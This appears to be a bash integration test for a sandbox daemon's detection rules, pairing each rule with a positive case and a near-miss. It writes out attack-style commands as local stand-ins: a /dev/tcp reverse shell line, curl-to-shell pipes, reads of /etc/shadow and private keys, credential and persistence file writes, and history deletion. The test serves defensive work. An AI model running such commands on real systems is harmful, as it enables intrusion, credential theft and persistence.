#!/usr/bin/env bash
# Detection with the built-in rules (rules/*.yaml), for real processes in real sessions:
# every rule that today's sensors can feed gets a positive case and a near-miss, all in
# one daemon and a few sessions so the whole thing stays short. An alert is matched to
# its case through refs: the seq of a line holding the case's marker. The rules on
# gateway events are in t_detect_net.sh (observe mode) and t_detect_more.sh (enforcement:
# blocked bursts, blocked DoH/DoT; also package installs, policy_violation and OOM ends).
# Also: --check-config and detect.reload refuse a bad rules file with FILE:LINE, SIGHUP
# reloads, and a restart resumes from the cursor.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/session_helpers.sh"
require_root
command -v busybox >/dev/null || { echo "missing busybox (busybox-static)"; echo "0 passed, 1 failed"; exit 1; }

W=$T_TMP/work
H=$T_TMP/home
mkdir -p "$W" "$H/.ssh" "$H/.aws" "$H/.ssh-notes" "$H/.config/systemd/user" \
	"$H/.config/systemd-notes"
echo key >"$H/.ssh/id_rsa" && echo pub >"$H/.ssh/id_rsa.pub"
echo hist >"$H/.bash_history" && echo hist >"$H/.bash_history.bak"
cp -r "$SRC/rules" "$T_TMP/rules"
write_config "$T_TMP/c.yaml" "gateway: {enabled: false}
audit:
  sensitive_paths: [\"/etc\", \"$H\", \"$T_TMP/a\"]
detection:
  rules: [\"$T_TMP/rules\"]
  rate_limit: 1000"
start_daemon a --config "$T_TMP/c.yaml"
for s in s1 s2 s3 s4 s5 s6; do
	u=root k=root
	[ "$s" = s2 ] || [ "$s" = s3 ] && u=alice k=nobody
	sg session create --id "$s" --user "$u" --workdir "$W" >/dev/null &&
		sg session start "$s" >/dev/null
	# A session ends with its last process: each keeps one until terminated.
	sgrun --session "$s" --uid $k --cwd / -- sleep 900 &   # outlives the test on a loaded host
	cleanup "kill $!"
done
run() { sgrun --session s1 -- "$@"; }

# alerted RULE MARKER: an alert of RULE refers to a line that holds MARKER.
alerted() {
	journal_lines "$SG_STATE" | jq -se --arg r "$1" --arg m "$2" '
		[.[] | select(.event != "alert" and (tostring | contains($m))) | .seq] as $s |
		any(.[]; .event == "alert" and .rule == $r and
		    any(.refs[]; . as $x | $s | index($x) != null))' >/dev/null
}
# alerted_in RULE SESSION: an alert of RULE for SESSION.
alerted_in() {
	journal_lines "$SG_STATE" | jq -se --arg r "$1" --arg s "$2" \
		'any(.[]; .event == "alert" and .rule == $r and .session_id == $s)' >/dev/null
}
pos() { check "$1: positive ($2)" wait_for "$1 alert" 10 alerted "$1" "$2"; }
neg() { check "$1: near miss ($2)" none alerted "$1" "$2"; }
none() { ! "$@"; }

# fifo NAME CONTENT: a FIFO fed after 0.4 s, so the downloader reading it is alive
# when its exec is read from /proc.
fifo() {
	mkfifo "$W/$1"
	(sleep 0.4; printf '%s\n' "$2" >"$W/$1") &
}

# ---- execution ---------------------------------------------------------------------
fifo dl-pos-curl 'true'
run bash -c "curl -s file://$W/dl-pos-curl | sh"
printf 'true\n' | gzip >"$W/gz" && fifo dl-pos-b64 "$(base64 -w0 "$W/gz")"
run bash -c "base64 -d $W/dl-pos-b64 | gunzip | bash -s"
echo true >"$W/script-neg.sh"
fifo dl-neg-file 'ignored'
run bash -c "curl -s file://$W/dl-neg-file | sh $W/script-neg.sh"
fifo dl-neg-cat 'true'
run bash -c "cat $W/dl-neg-cat | sh"
run bash -c "curl -s file:///nonexistent/cmdline-pos-1 | sh"
run bash -c "curl -s -o /dev/null file:///nonexistent/cmdline-neg-1; true"
cp /usr/bin/sleep "$W/suid-sleep" && chmod 4755 "$W/suid-sleep"
cp /usr/bin/sleep "$W/plain-sleep" && chmod 0755 "$W/plain-sleep"
chmod 0755 "$W" "$T_TMP"
# no_new_privs in a contained run keeps setuid from raising euid: both --privileged.
sgrun --privileged --session s1 --uid nobody --cwd / -- "$W/suid-sleep" 0.31
sgrun --privileged --session s1 --uid nobody --cwd / -- "$W/plain-sleep" 0.32
run sh -c 'sleep 0.3; exit 0; bash -i >& /dev/tcp/198.18.0.1/4444 0>&1 # revsh-pos-1'
sgrun --session s1 -- socat EXEC:'sleep 0.6' EXEC:'sh -s revsh-pos-2'
run sh -c 'sleep 0.3; echo /dev/tcp is a bash feature # revsh-neg-1'
run modprobe -q -n sg-kmod-pos
run lsmod >/dev/null
run sh -c "sleep 2 & p=\$!; timeout 1 strace -o $W/ptrace-pos.out -p \$p; kill \$p"
run strace -o "$W/ptrace-neg.out" sh -c 'sleep 0.3'
# crontab: busybox's applet (busybox-static; Debian's own crontab comes with the cron
# daemon), through a link named crontab as busybox installs it, and as `busybox
# crontab`; its spool a directory here (-c). The tab and the spool file are FIFOs fed
# late, so crontab is alive when its exec is read.
mkdir -p "$W/bin" "$W/crontabs-pos" "$W/crontabs-neg"
ln -s "$(command -v busybox)" "$W/bin/crontab"
fifo crontab-pos.tab '* * * * * true'
run "$W/bin/crontab" -c "$W/crontabs-pos" "$W/crontab-pos.tab"
mkdir -p "$W/crontabs-pos2"
fifo crontab-pos2.tab '* * * * * true'
run busybox crontab -c "$W/crontabs-pos2" "$W/crontab-pos2.tab"
fifo crontabs-neg/root '# nothing'
run "$W/bin/crontab" -c "$W/crontabs-neg" -l >/dev/null

# ---- files -------------------------------------------------------------------------
run sh -c "echo k >$H/.ssh/authorized_keys; echo c >$H/.aws/credentials"
run sh -c "echo n >$H/.ssh-notes/notes"
run cat /etc/shadow >/dev/null
run cat /etc/passwd >/dev/null
run cat "$H/.ssh/id_rsa" >/dev/null
run cat "$H/.ssh/id_rsa.pub" >/dev/null
# A contained run cannot even see the state directory or the control socket (both
# covered in its mount namespace: t_contain_run.sh); the rules are for sessions that can,
# so these two attempts run --privileged.
sgrun --privileged --session s1 -- touch "$SG_STATE/tamper-pos"
mkdir -p "$SG_STATE.other" && run touch "$SG_STATE.other/tamper-neg"
run sh -c "echo u >$H/.config/systemd/user/persist-pos.service; echo x >>$H/.bashrc"
run sh -c "echo u >$H/.config/systemd-notes/persist-neg.service"
run rm "$H/.bash_history" "$H/.bash_history.bak"
printf '{"verb":"ping"}\n' | sgrun --privileged --session s1 -- socat - "UNIX-CONNECT:$SG_SOCK" >/dev/null 2>&1
req '{"verb":"ping"}' >/dev/null
mkdir -p "$W/many" "$W/few"
sgrun --session s4 -- sh -c "cd $W/many && touch \$(seq 1 60) && rm \$(seq 1 60)"
run sh -c "cd $W/few && touch \$(seq 1 20) && rm \$(seq 1 20)"

# ---- identity and the end of sessions ------------------------------------------------
sgrun --session s2 -- sh -c 'sleep 0.3 # uid0-pos'
sgrun --session s3 --uid nobody --cwd / -- sh -c 'sleep 0.3 # uid0-neg'
sgrun --session s5 -- sh -c "cd $W && touch c1 c2 c3 && rm c1 c2 c3"
sgrun --session s6 -- sh -c "cd $W && touch d1 d2 && rm d1 d2"
sleep 1   # the deletions reach the journal before the terminations
sg session terminate s5 --reason policy_violation >/dev/null
sg session terminate s6 --reason normal >/dev/null
sg session terminate s4 --reason oom >/dev/null

# ---- verdicts ----------------------------------------------------------------------
pos pipe-to-shell dl-pos-curl
pos pipe-to-shell dl-pos-b64
neg pipe-to-shell dl-neg-file
neg pipe-to-shell dl-neg-cat
pos download-and-run-cmdline cmdline-pos-1
neg download-and-run-cmdline cmdline-neg-1
pos setuid-exec suid-sleep
neg setuid-exec plain-sleep
pos reverse-shell revsh-pos-1
pos reverse-shell revsh-pos-2
neg reverse-shell revsh-neg-1
pos kernel-module-load sg-kmod-pos
neg kernel-module-load lsmod
pos ptrace-attach ptrace-pos
neg ptrace-attach ptrace-neg
check "crontab installed the tab" grep -q true "$W/crontabs-pos/root"
pos crontab-edit 'crontabs-pos"'
pos crontab-edit crontabs-pos2
check "crontab -l ran, seen with its arguments" sh -c "cat '$SG_STATE'/journal/*.jsonl | grep '\"process.exec\"' | grep -F crontabs-neg | grep -qF '\"-l\"'"
neg crontab-edit crontabs-neg
pos credential-write "$H/.ssh/authorized_keys"
pos credential-write "$H/.aws/credentials"
neg credential-write "$H/.ssh-notes/notes"
pos shadow-read '"/etc/shadow"'
neg shadow-read '"/etc/passwd"'
pos private-key-read '.ssh/id_rsa"'
neg private-key-read 'id_rsa.pub'
pos sandgate-tamper tamper-pos
neg sandgate-tamper tamper-neg
pos persistence-write persist-pos
pos persistence-write "$H/.bashrc"
neg persistence-write persist-neg
pos history-tampering '.bash_history"'
neg history-tampering 'bash_history.bak'
pos sandgate-control-from-session 'inside a session'
check "sandgate-control-from-session: near miss (host ping: no refusal)" test \
	"$(count_events "$SG_STATE" control.denied)" -eq 1
pos mass-deletion "$W/many/50\""
check "mass-deletion: near miss (20 deletions)" none alerted_in mass-deletion s1
pos root-in-nonroot-session uid0-pos
check "root-in-nonroot-session: near miss (user alice, uid nobody)" \
	none alerted_in root-in-nonroot-session s3
check "root-in-nonroot-session: near miss (user root)" \
	none alerted_in root-in-nonroot-session s1
check "session-ended-badly: positive (policy_violation)" \
	wait_for alert 10 alerted_in session-ended-badly s5
check "session-ended-badly: positive (oom)" wait_for alert 10 alerted_in session-ended-badly s4
check "session-ended-badly: near miss (normal)" none alerted_in session-ended-badly s6
check "cleanup-before-end: positive (3 deletions, then the end)" \
	wait_for alert 10 alerted_in cleanup-before-end s5
check "cleanup-before-end: near miss (2 deletions)" \
	none alerted_in cleanup-before-end s6

# ---- the alert events themselves ----------------------------------------------------
e=$(journal_lines "$SG_STATE" | jq -c 'select(.event == "alert" and .rule == "pipe-to-shell")' | head -1)
jcheck "alert: source sandgate, session, severity, summary, refs, tags" "$e" \
	'.source == "sandgate" and .session_id == "s1" and .severity == "critical" and
	 (.summary | test("curl piped into (sh|dash)")) and (.refs | length) == 2 and
	 (.tags | index("download-and-run")) != null'
n=$(journal_lines "$SG_STATE" | jq -c 'select(.event == "alert" and .rule == "sandgate-tamper" and .session_id == "s1")' | wc -l)
check "no alert about the daemon's own journal writes (only the session's: $n)" test "$n" -le 3

# ---- reload: a bad rules file is refused, a good one is taken -------------------------
printf 'rules:\n  - id: bad\n    severity: loud\n    summary: x\n' >"$T_TMP/rules/zz.yaml"
out=$("$BIN/sandgated" --check-config "$T_TMP/c.yaml" 2>&1)
check "--check-config names the rules file and line" grep -q "$T_TMP/rules/zz.yaml:3:" <<<"$out"
r=$(req '{"verb":"detect.reload"}')
jcheck "detect.reload refuses the bad set with FILE:LINE" "$r" '.ok == false and (.error | test("zz.yaml:3"))'
printf 'rules:\n  - id: only-sleep\n    severity: low\n    events: process.exec\n    condition: {cmd: sh, args: reload-marker}\n    summary: "slept {args}"\n' >"$T_TMP/rules/zz.yaml"
kill -HUP "$DPID"
wait_for "reload event" 10 sh -c "journal_lines() { cat \"\$1\"/journal/*.jsonl; }; journal_lines '$SG_STATE' | grep -q '\"event\":\"detect.reload\",.*\"ok\":true'"
check "SIGHUP reloads the rules" sh -c "cat '$SG_STATE'/journal/*.jsonl | grep '\"detect.reload\"' | grep -q '\"ok\":true'"
run sh -c 'sleep 0.3' reload-marker
pos only-sleep reload-marker

stop_daemon
check "daemon exits 0 at SIGTERM" test $? -eq 0
check "the cursor is kept in the state dir" test -f "$SG_STATE/detect/cursor"

# ---- a restart resumes from the cursor: nothing judged twice ----------------------------
restart=$(journal_lines "$SG_STATE" | wc -l)
start_daemon a --config "$T_TMP/c.yaml"
run sh -c 'sleep 0.3' reload-marker after-restart-marker
pos only-sleep after-restart-marker
n=$(journal_lines "$SG_STATE" | jq -c --argjson r "$restart" \
	'select(.event == "alert" and .seq >= $r and any(.refs[]; . < $r))' | wc -l)
check "after a restart no line before it is alerted on again ($n)" test "$n" -eq 0
stop_daemon
[ -n "${DETECT_DEBUG:-}" ] && cp -r "$SG_STATE" "$T_TMP/a.log" "$DETECT_DEBUG"
finish
